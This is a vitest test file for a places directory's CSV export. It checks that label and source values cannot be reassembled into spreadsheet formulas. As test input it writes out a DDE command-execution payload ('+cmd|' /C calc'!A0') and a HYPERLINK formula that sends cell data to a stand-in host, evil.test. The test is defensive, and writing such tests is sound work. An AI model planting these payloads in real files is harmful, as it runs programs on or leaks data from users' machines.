/**
 * Issue 14, attack on the national CSV (docs/decisions/0005-csv-formulas.md): a formula that
 * each value passes on its own, put back together in the file. Two labels « +cmd » and
 * « ' /C calc'!A0 » (in one file, or from two sources of the same place) were written
 * `+cmd|' /C calc'!A0`, a formula that runs a program; a record's `source` formula became the
 * place's source name, then its CSV `source`, as it was. Found on /api/v1/places.csv and the
 * downloads.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase } from '../db.ts';
import { setDatabase, type Database } from '../../src/lib/server/db/client.ts';
import { importPlaces, listCell, parseStandardCsv, type ImportReport } from '../../src/lib/server/places/index.ts';
import { GET as placesCsv } from '../../src/routes/api/v1/places.csv/+server.ts';

const base = {
	pivot: '21470001500016',
	commune: 'Agen',
	code_postal: '47000',
	code_insee: '47001',
	adresse: 'Place Armand Fallières',
	latitude: 44.204,
	longitude: 0.619,
	services: 'Aide aux démarches administratives',
	date_maj: '2024-03-12'
};
const DDE = ['+cmd', "' /C calc'!A0"];
let db: Database;

beforeAll(async () => {
	db = await createTestDatabase();
	setDatabase(db);
});
afterAll(async () => {
	setDatabase(undefined);
	await db?.close();
});

/** Cells a spreadsheet would run as a formula that calls something (as f12-csv-formulas.test.ts: a phone "+33…" is a number). */
const liveCells = (rows: Record<string, string>[]) =>
	rows.flatMap((r) =>
		Object.entries(r)
			.filter(([k, v]) => k !== 'telephone' && (/^\s*=/.test(v) || (/^\s*[+\-@]\S/.test(v) && /[(|!]/.test(v))))
			.map(([k, v]) => `${r.id} ${k}=${v}`)
	);

async function nationalCsv(): Promise<Record<string, string>[]> {
	const res = await placesCsv({
		url: new URL('http://localhost/api/v1/places.csv?departement=47'),
		params: {},
		request: new Request('http://localhost/api/v1/places.csv')
	} as never);
	return parseStandardCsv(await res.text()).rows as Record<string, string>[];
}

const importJson = (fileName: string, records: unknown, dryRun = false): Promise<ImportReport> =>
	importPlaces(db, { fileName, content: JSON.stringify(records), today: '2026-12-07', dryRun });

describe('issue 14, attack: formulas put back together in the national CSV', () => {
	it('labels that pass one by one, from one file or from two sources of the same place, never make a live cell; nor does a record’s source', async () => {
		const one = await importJson('labels.json', [
			{ ...base, id: 'labels-dde', nom: 'Espace numérique DDE', autres_formations_labels: DDE.join('|') },
			{ ...base, id: 'source-formule', nom: 'Espace numérique source', adresse: '1 rue de la Source', source: '=HYPERLINK("https://evil.test/?d="&A1;"x")' },
			{ ...base, id: 'labels-legitimes', nom: 'Espace numérique légitime', adresse: '2 rue des Labels', autres_formations_labels: 'PIX|- ateliers' }
		]);
		expect(one.created).toBe(3);
		// the same place seen in a second file (same id, name and address: merged), its labels composed with the first's
		await importJson('autre-source.json', [{ ...base, id: 'autre-dde', nom: 'Espace numérique DDE', autres_formations_labels: DDE[1] }]);
		await importJson('premiere-source.json', [{ ...base, id: 'premier-dde', nom: 'Espace numérique DDE', autres_formations_labels: DDE[0] }]);

		const rows = await nationalCsv();
		expect(liveCells(rows)).toEqual([]);
		const dde = rows.find((r) => r.id === 'labels-dde')!;
		// nothing lost: the same labels, the one that cannot start a formula first
		expect(dde.autres_formations_labels.split('|').sort()).toEqual([...DDE].sort());
		expect(rows.find((r) => r.id === 'source-formule')!.source).toBe('labels');
		expect(rows.find((r) => r.id === 'labels-legitimes')!.autres_formations_labels).toBe('PIX|- ateliers');
	});

	it('a list cell: unchanged when harmless, reordered when its first item would start a formula', () => {
		expect(listCell(['PIX', '+cmd'])).toBe('PIX|+cmd');
		expect(listCell(DDE)).toBe("' /C calc'!A0|+cmd");
		expect(listCell(['@a', '-b(c)'])).toBe('@a');
		expect(listCell(['- ateliers'])).toBe('- ateliers');
	});
});
